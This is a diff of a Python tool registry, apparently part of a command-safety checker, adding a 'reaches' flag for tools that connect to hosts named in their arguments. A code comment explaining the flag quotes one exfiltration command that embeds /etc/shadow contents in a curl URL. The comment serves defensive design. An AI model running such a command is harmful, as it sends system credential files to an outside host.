@@ -171,6 +171,9 @@ class Tool:
     marks: frozenset[str] = frozenset()  # lists the tool is on: inline, shell-block, prerequisite
     stub: bool = False  # only named (marks), nothing known of its commands: classed as an unknown tool
     unscoped: tuple[str, ...] = ()  # first words whose commands need no scope (aws: global services, no --region)
+    # connects to a host its own arguments name (curl URL, dig @server, psql -h): a value read from a
+    # command's output never goes into it, or `curl http://x/$(head /etc/shadow)` would send the file
+    reaches: bool = False
 
     def kind(self, word: str) -> tuple[Kind, ...]:
         """The kinds a positional names: `deploy/web` → deployment; `pods,svc` → pod, service."""
@@ -355,6 +358,7 @@ def _tool(spec: dict[str, Any], where: str) -> Tool:
         "commands",
         "runner",
         "filter",
+        "reaches",
         "live_env",
         "live_prefix",
         "class",
@@ -401,6 +405,7 @@ def _tool(spec: dict[str, Any], where: str) -> Tool:
         frozenset(str(m) for m in spec.get("marks", [])),
         "class" not in spec and not spec.get("commands") and "default" not in spec,
         tuple(str(w) for w in spec.get("unscoped", [])),
+        bool(spec.get("reaches", False)),
     )
 
 
